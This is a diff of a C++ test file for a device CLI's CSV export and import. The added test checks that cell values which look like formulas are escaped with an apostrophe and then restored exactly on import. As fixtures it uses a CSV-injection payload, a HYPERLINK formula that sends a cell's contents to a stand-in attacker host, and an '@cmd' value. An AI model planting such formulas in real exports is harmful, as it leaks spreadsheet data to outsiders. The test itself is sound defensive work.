@@ -65,6 +65,43 @@ store::Device MakeDevice(std::string id, std::string config_json) {
   return d;
 }
 
+// Found by a black-box test: a name "=HYPERLINK(…)" an owner key set, or "@cmd", came out
+// of the export as a live spreadsheet formula. Such text is written with a leading
+// apostrophe (common/csv_text.h), which the import drops: the round trip is exact, an
+// apostrophe of the value's own included.
+TEST_F(DevicesCliTest, FormulaTextIsGuardedAndRoundTrips) {
+  auto old_store = OpenStore("old.db");
+  ASSERT_TRUE(old_store);
+  store::Device d = MakeDevice("f-1", "");
+  d.name = "=HYPERLINK(\"http://attacker.example/?\"&A2,\"open\")";
+  d.model = "'quoted";
+  d.location = "@cmd";
+  ASSERT_TRUE(old_store->CreateDevice(d, nullptr).ok());
+  store::Device plain = MakeDevice("f-2", "");
+  plain.name = "-1+1";
+  plain.location = "Kitchen";
+  ASSERT_TRUE(old_store->CreateDevice(plain, nullptr).ok());
+  const std::string csv = Export(*old_store);
+  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",''quoted,'@cmd,"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",'-1+1,"), std::string::npos) << csv;
+  EXPECT_NE(csv.find(",Kitchen,"), std::string::npos) << csv;
+  for (const std::string& line : {csv.substr(csv.find("\nf-1")), csv.substr(csv.find("\nf-2"))}) {
+    EXPECT_NE(line.substr(1, 1), "'") << line;  // ids are never guarded
+  }
+  auto new_store = OpenStore("new.db");
+  ASSERT_TRUE(new_store);
+  DevicesImportReport report = Import(*new_store, csv);
+  EXPECT_EQ(report.created, 2u);
+  Result<store::Device> back = new_store->GetDevice("f-1");
+  ASSERT_TRUE(back.ok());
+  EXPECT_EQ(back->name, d.name);
+  EXPECT_EQ(back->model, "'quoted");
+  EXPECT_EQ(back->location, "@cmd");
+  EXPECT_EQ(new_store->GetDevice("f-2")->name, "-1+1");
+  EXPECT_EQ(Import(*new_store, Export(*new_store)).unchanged, 2u);
+}
+
 // Found by a black-box test: the export had no config column, so export → import into a
 // new store lost {"whole_home":true} and the owner's energy then counted the meter and the
 // loads behind it.
@@ -198,7 +235,8 @@ TEST_F(DevicesCliTest, ExportNamesTheRowsAnImportWouldRefuse) {
       << warned;
   EXPECT_NE(warned.find("line 4: device \"zone\": will not import: "), std::string::npos) << warned;
   EXPECT_EQ(warned.find("\"good\""), std::string::npos) << warned;
-  EXPECT_NE(warned.find("2 exported rows will not import as they are"), std::string::npos) << warned;
+  EXPECT_NE(warned.find("2 exported rows will not import as they are"), std::string::npos)
+      << warned;
   // What the warnings say is what import says.
   std::vector<std::string> errors;
   ParseDevicesCsv(csv, "devices.csv", &errors);
